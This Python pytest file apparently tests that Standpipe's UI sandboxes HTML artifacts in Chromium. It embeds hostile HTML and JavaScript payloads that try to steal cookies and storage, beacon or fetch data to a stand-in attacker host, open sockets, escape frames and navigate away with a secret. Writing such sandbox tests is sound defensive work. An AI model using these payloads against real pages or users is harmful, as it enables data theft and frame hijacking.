"""A hostile page of HTML as an artifact, in Chromium: it reaches neither the network, nor the page, nor the cookie."""

from __future__ import annotations

import socket
import threading
import time
from collections.abc import Iterator
from contextlib import suppress
from pathlib import Path
from typing import Any
from urllib.parse import urlencode

import pytest
import uvicorn

from standpipe.ui.app import make_app
from standpipe.ui.security import Access
from standpipe.ui.source import RunSource
from tests.chromium import browser
from tests.ui.artifacts import location, run_with_artifacts, text_writer

pytestmark = pytest.mark.slow
__all__ = ["browser"]  # a fixture

#: What needs no scripts. The attacker's server is at `%(evil)s`, and Standpipe at `%(own)s`.
STATIC = """<!doctype html><html><head>
<meta http-equiv="x-dns-prefetch-control" content="on"><base href="%(evil)s/base/">
<link rel="stylesheet" href="%(evil)s/css"><link rel="preload" as="image" href="%(evil)s/preload">
<link rel="prefetch" href="%(evil)s/prefetch"><link rel="dns-prefetch" href="%(evil)s">
<link rel="preconnect" href="%(evil)s"><link rel="prerender" href="%(evil)s/prerender">
<link rel="modulepreload" href="%(evil)s/module"><link rel="icon" href="%(evil)s/icon">
<link rel="manifest" href="%(evil)s/manifest"><script src="%(evil)s/script"></script>
<style>@import url("%(evil)s/import"); @font-face { font-family: x; src: url("%(evil)s/font"); }
body { background: url("%(evil)s/background"); font-family: x; }</style></head><body>
<img src="%(evil)s/img"><img srcset="%(evil)s/srcset 2x"><picture><source srcset="%(evil)s/source"><img></picture>
<iframe src="%(evil)s/frame"></iframe><object data="%(evil)s/object"></object><embed src="%(evil)s/embed">
<video src="%(evil)s/video" poster="%(evil)s/poster" autoplay></video><audio src="%(evil)s/audio" autoplay></audio>
<svg><image href="%(evil)s/svg-image"/><use href="%(evil)s/use#x"/></svg><input type="image" src="%(evil)s/input">
<img src="%(own)s/events"><iframe src="%(own)s/"></iframe>
<iframe srcdoc="<img src='%(evil)s/srcdoc'><script>parent.parent.document.title='srcdoc'</script>"></iframe>
<form id="form" action="%(evil)s/form"><input name="x" value="y"></form><h1>The report</h1>
"""

#: What scripts can try. Each attempt writes what came of it to an attribute of the frame's own document.
SCRIPTS = """<script>
const log = [];
const attempts = {
  cookie: () => { const cookie = document.cookie; if (cookie) return cookie; throw 0; },
  storage: () => localStorage.length,
  parent: () => parent.document.title = "parent",
  opener: () => top.eval("document.title = 'top'"),
  fetch: () => fetch("%(evil)s/fetch", {mode: "no-cors"}),
  own: () => fetch("%(own)s/", {credentials: "include"}),
  xhr: () => { const it = new XMLHttpRequest(); it.open("GET", "%(evil)s/xhr", false); it.send(); },
  beacon: () => navigator.sendBeacon("%(evil)s/beacon", "x"),
  socket: () => new WebSocket("%(evil)s/socket".replace("http", "ws")),
  events: () => new EventSource("%(evil)s/events"),
  transport: () => new WebTransport("%(evil)s/transport".replace("http", "https")),
  worker: () => new Worker(URL.createObjectURL(new Blob(["fetch('%(evil)s/worker')"]))),
  serviceWorker: () => navigator.serviceWorker.register("%(own)s/static/page.js"),
  image: () => { new Image().src = "%(evil)s/new-image"; },
  popup: () => { if (open("%(evil)s/popup")) return "open"; throw 0; },
  form: () => document.getElementById("form").submit(),
  download: () => { const a = document.createElement("a"); a.download = "x"; a.href = "data:,x"; a.click(); },
  alert: () => alert("x"),
  rules: () => { const it = document.createElement("script"); it.type = "speculationrules";
    it.text = '{"prefetch": [{"urls": ["%(evil)s/rules"], "eagerness": "immediate"}]}'; document.head.append(it); },
  preconnect: () => { const it = document.createElement("link"); it.rel = "preconnect"; it.href = "%(evil)s";
    document.head.append(it); },
  clipboard: () => navigator.clipboard.writeText("x"),
  top: () => { top.location = "%(evil)s/top"; },
  parentLocation: () => { parent.location = "%(evil)s/parent"; },
};
for (const [name, attempt] of Object.entries(attempts)) {
  try { log.push([name, String(attempt())]); } catch (error) { log.push([name, "refused"]); }
}
document.documentElement.dataset.log = JSON.stringify(log);
</script>"""

RTC = """<script>
const connection = new RTCPeerConnection({iceServers: [{urls: "stun:127.0.0.1:%(udp)d"}]});
connection.createDataChannel("x");
connection.createOffer().then((offer) => connection.setLocalDescription(offer));
</script>"""

NAVIGATION = """<script>setTimeout(() => { location = "%(evil)s/navigation?secret"; }, 300);</script>"""
REFRESH = """<meta http-equiv="refresh" content="0; url=%(evil)s/refresh">"""


class Attacker:
    """Listens on a TCP and a UDP port, and notes each connection with what it sent, and each packet."""

    def __init__(self) -> None:
        self.connections: list[bytes] = []
        self.packets: list[bytes] = []
        self._tcp, self._udp = socket.create_server(("127.0.0.1", 0)), socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self._udp.bind(("127.0.0.1", 0))
        self._threads = [threading.Thread(target=each, daemon=True) for each in (self._accept, self._receive)]
        for thread in self._threads:
            thread.start()

    @property
    def values(self) -> dict[str, Any]:
        port = self._tcp.getsockname()[1]
        return {"evil": f"http://127.0.0.1:{port}", "udp": self._udp.getsockname()[1]}

    def close(self) -> None:
        for each in (self._tcp, self._udp):
            with suppress(OSError):
                each.shutdown(socket.SHUT_RDWR)  # ends the calls that wait
            each.close()
        for thread in self._threads:
            thread.join(10)

    def _accept(self) -> None:
        with suppress(OSError):
            while True:
                connection = self._tcp.accept()[0]
                with connection:
                    connection.settimeout(1)
                    try:
                        self.connections.append(connection.recv(1000))
                    except OSError:
                        self.connections.append(b"")

    def _receive(self) -> None:
        with suppress(OSError):
            while packet := self._udp.recv(2000):
                self.packets.append(packet)


@pytest.fixture
def attacker() -> Iterator[Attacker]:
    made = Attacker()
    yield made
    made.close()


class Standpipe:
    """The server of a pipeline root, and the requests that it got."""

    def __init__(self, root: Path) -> None:
        with socket.create_server(("127.0.0.1", 0)) as free:
            port = free.getsockname()[1]
        self.access = Access(port, "a-token")
        self.base = f"http://127.0.0.1:{port}"
        self.requests: list[tuple[str, str]] = []  # the path, and where the request comes from
        app = make_app(RunSource(root), self.access)

        async def note(scope: Any, receive: Any, send: Any) -> None:
            if scope["type"] == "http":
                headers = dict(scope["headers"])
                self.requests.append((scope["path"], headers.get(b"sec-fetch-site", b"").decode()))
            await app(scope, receive, send)

        self._server = uvicorn.Server(
            uvicorn.Config(note, port=port, log_level="critical", timeout_graceful_shutdown=1, lifespan="off")
        )
        self._thread = threading.Thread(target=self._server.run, daemon=True)
        self._thread.start()
        while not self._server.started:
            time.sleep(0.01)

    def close(self) -> None:
        self._server.should_exit = True
        self._thread.join(10)


@pytest.fixture
def standpipe(tmp_path: Path) -> Iterator[Standpipe]:
    server = Standpipe(tmp_path)
    yield server
    server.close()


def show(browser: Any, server: Standpipe, root: Path, html: str, attacker: Attacker, **query: Any) -> Any:
    """Show the page of an artifact with that HTML for two seconds, and return the page."""
    run = run_with_artifacts(root, text_writer(html % {**attacker.values, "own": server.base}))
    page = browser.new_context().new_page()
    page.goto(f"{server.base}/?token=a-token")
    server.requests.clear()
    page.goto(f"{server.base}/runs/{run}/artifact?{urlencode({'uri': location(root, run), **query})}")
    time.sleep(2)
    return page


def check_page(page: Any, server: Standpipe) -> None:
    """Check that the page is as it was, and that Standpipe got no request of the frame."""
    assert page.title().startswith("data · shown")
    assert page.url.startswith(f"{server.base}/runs/")
    assert page.locator("h1").inner_text() == "data"
    assert len(page.context.pages) == 1
    assert {site for _, site in server.requests} <= {"same-origin", "none"}
    assert [path.rpartition("/")[2] for path, _ in server.requests].count("payload") == 1


def test_a_page_without_scripts_sends_nothing_at_all(
    browser: Any, standpipe: Standpipe, attacker: Attacker, tmp_path: Path
) -> None:
    page = show(browser, standpipe, tmp_path, STATIC + SCRIPTS + RTC + NAVIGATION + REFRESH, attacker)

    assert page.frame_locator("iframe").locator("h1").inner_text() == "The report"
    assert page.frames[1].locator("html").get_attribute("data-log") is None
    check_page(page, standpipe)
    assert (attacker.connections, attacker.packets) == ([], [])


def test_a_page_with_scripts_reaches_nothing(
    browser: Any, standpipe: Standpipe, attacker: Attacker, tmp_path: Path
) -> None:
    page = show(browser, standpipe, tmp_path, STATIC + SCRIPTS, attacker, scripts=1)

    log = dict(page.frames[1].evaluate("JSON.parse(document.documentElement.dataset.log)"))
    refused = {name for name, result in log.items() if result == "refused"}
    assert {"cookie", "storage", "parent", "opener", "popup", "top"} <= refused
    assert len(log) == 23
    check_page(page, standpipe)
    assert [each for each in attacker.connections if each] == []


@pytest.mark.parametrize("html", [NAVIGATION, REFRESH])
def test_a_page_with_scripts_cannot_navigate_away(
    browser: Any, standpipe: Standpipe, attacker: Attacker, tmp_path: Path, html: str
) -> None:
    page = show(browser, standpipe, tmp_path, f"<!doctype html><h1>x</h1>{html}", attacker, scripts=1)

    check_page(page, standpipe)
    # Chromium 150 opens a connection before it checks whether the page may navigate there, and sends nothing.
    assert [each for each in attacker.connections if each] == []
